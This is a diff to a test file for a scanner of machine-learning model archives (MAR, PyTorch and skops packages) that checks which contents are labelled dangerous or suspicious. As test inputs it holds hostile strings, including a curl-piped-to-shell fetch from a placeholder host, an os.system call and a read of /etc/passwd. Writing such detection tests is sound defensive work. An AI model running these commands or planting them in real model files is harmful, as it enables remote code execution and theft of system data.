@@ -100,6 +100,10 @@ describe("inspect archives", () => {
     assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "os.system('curl http://x | sh')" }), /^dangerous at handler\.py/);
     assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "os.system('pip install timm')" }), /^suspicious at handler\.py/);
     assert.match(archive({ "m/data.pkl": "\x80\x02N.", "m/net.py": "import os" }), /^suspicious at m\/net\.py: A PyTorch package/);
+    assert.match(archive({ "m/.data/extern_modules": "os", "m/model.pkl": "\x80\x02N.", "m/net.py": "import os\nos.system('id')" }), /^dangerous at m\/net\.py/);
+    const skops = (module: string): string => archive({ "schema.json": JSON.stringify({ __module__: module, __class__: "Thing", __loader__: "ObjectNode", content: {} }) });
+    assert.match(skops("somebody.code"), /^suspicious .*`skops\.io\.load` refuses it/);
+    assert.match(skops("lightgbm.inner"), /^(info .*`skops\.io\.load` refuses it.*)?$/);
     const script = (line: string): string => archive({ "m/data.pkl": "\x80\x02N.", "m/code/__torch__.py": `def forward(self, x):\n  return ${line}\n` });
     assert.equal(script("torch.add(ops.quantized.linear(x), ops.torchvision.nms(x))"), "");
     assert.match(script('torch.from_file("/etc/passwd")'), /^dangerous .*`torch\.from_file`/);
